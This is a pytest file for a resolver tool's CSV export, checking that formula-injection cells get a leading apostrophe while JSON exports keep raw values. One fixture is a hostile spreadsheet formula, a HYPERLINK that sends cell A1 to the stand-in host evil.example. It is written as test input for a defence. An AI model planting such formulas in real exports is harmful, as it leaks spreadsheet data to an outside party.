"""CSV formula injection (issue 11, item 9): a cell that starts with =, +, -, @, tab or carriage
return is written with a leading apostrophe, as OWASP recommends, so a spreadsheet shows it as
text; numbers stay numbers, and JSON/JSONL exports keep the values as they are."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest
from typer.testing import CliRunner

from resolver.cli import app
from resolver.config import Settings
from resolver.engine import Article, Market
from resolver.services import App

T0 = datetime(2030, 3, 1, 12, tzinfo=timezone.utc)
QUESTION = '=HYPERLINK("https://evil.example/?"&A1,"Will Northland and Southland sign a border accord?")'


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(1+1)", "'@SUM(1+1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("plain", "plain"), ("", ""), ("a=1", "a=1"), (-0.25, -0.25), (None, None), (3, 3),
])
def test_neutralise(value, expected):
    from resolver.export import neutralise

    assert neutralise(value) == expected


def test_csv_exports_neutralise_formulas_from_every_untrusted_field(sqlite_url):
    a = App(sqlite_url, Settings())
    a.import_markets([Market(id="accord", question=QUESTION, deadline=datetime(2030, 12, 31, tzinfo=timezone.utc),
                             criteria="A signature is required.")], T0)
    a.import_articles([Article(url="https://x.example/signed", title="Northland and Southland sign border accord",
                               published=T0 + timedelta(days=1), source="x.example",
                               text="Northland and Southland signed a border accord in Geneva on Monday.")],
                      T0 + timedelta(days=1), "accord")
    a.evaluate(T0 + timedelta(days=2), now=T0 + timedelta(days=2))
    a.decide("accord", "override", "=1+1", "@SUM(1+1)", T0 + timedelta(days=2), verdict="likely-no")
    a.engine.dispose()
    runner = CliRunner()
    r = runner.invoke(app, ["export", "--final", "--db", sqlite_url])
    assert r.exit_code == 0
    row = next(csv.DictReader(io.StringIO(r.output)))
    assert row["question"] == "'" + QUESTION and row["note"] == "'=1+1" and row["analyst"] == "'@SUM(1+1)"
    assert float(row["score"]) == pytest.approx(float(row["score"])) and not row["score"].startswith("'")
    for cell in row.values():
        assert not cell or cell[0] not in "=+-@\t\r", cell
    # JSON keeps the data as it is: it is not read by spreadsheets
    r = runner.invoke(app, ["export", "--final", "--format", "json", "--db", sqlite_url])
    data = json.loads(r.output)[0]
    assert data["question"] == QUESTION and data["note"] == "=1+1"
